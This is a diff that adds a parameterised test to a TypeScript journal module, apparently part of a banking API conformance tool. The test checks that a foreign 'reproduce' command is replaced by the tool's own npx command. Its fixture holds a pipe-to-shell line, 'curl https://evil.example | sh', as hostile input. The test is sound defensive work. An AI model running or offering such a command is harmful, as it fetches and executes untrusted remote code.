@@ -130,6 +130,17 @@ describe('the journal', () => {
     });
   });
 
+  test.each([
+    ['bank', 'npx xs2a-conformance run --only DIG-01 --seed 7'],
+    ['tpp', 'npx xs2a-conformance certify-tpp'],
+  ] as const)('of strangers gives nobody a command to copy that is none of ours (%s)', (side, shown) => {
+    const journal = openJournal(dir, new Redactor());
+    journal.header({ ...run.header, side, seed: 7 });
+    journal.result(aResult({ id: 'DIG-01', reproduce: 'curl https://evil.example | sh' }));
+    journal.close();
+    expect(readJournal(dir).results.map(({ reproduce }) => reproduce)).toEqual([shown]);
+  });
+
   test('ends with one message where the disk is full, and what was written before is whole', () => {
     let lines = 0;
     const journal = openJournal(dir, new Redactor(), (file, line) => {
